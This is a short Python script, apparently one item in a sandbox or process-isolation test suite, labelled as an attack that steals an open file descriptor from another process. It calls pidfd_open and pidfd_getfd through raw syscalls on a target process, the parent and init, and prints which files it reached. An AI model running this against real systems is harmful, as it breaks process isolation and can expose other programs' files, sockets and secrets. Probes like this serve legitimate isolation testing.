# attack: takes an open descriptor out of another process: pidfd_open, then pidfd_getfd
# family: processes
import ctypes
import os
libc = ctypes.CDLL(None, use_errno=True)
for pid in [$PID, os.getppid(), 1]:
    handle = libc.syscall(434, pid, 0)
    if handle >= 0:
        print("REACHED pidfd of", pid)
        for wanted in range(20):
            got = libc.syscall(438, handle, wanted, 0)
            if got >= 0:
                print("ESCAPED" if pid == $PID else "REACHED", "descriptor", wanted, "of", pid, os.readlink(f"/proc/self/fd/{got}"))
                break
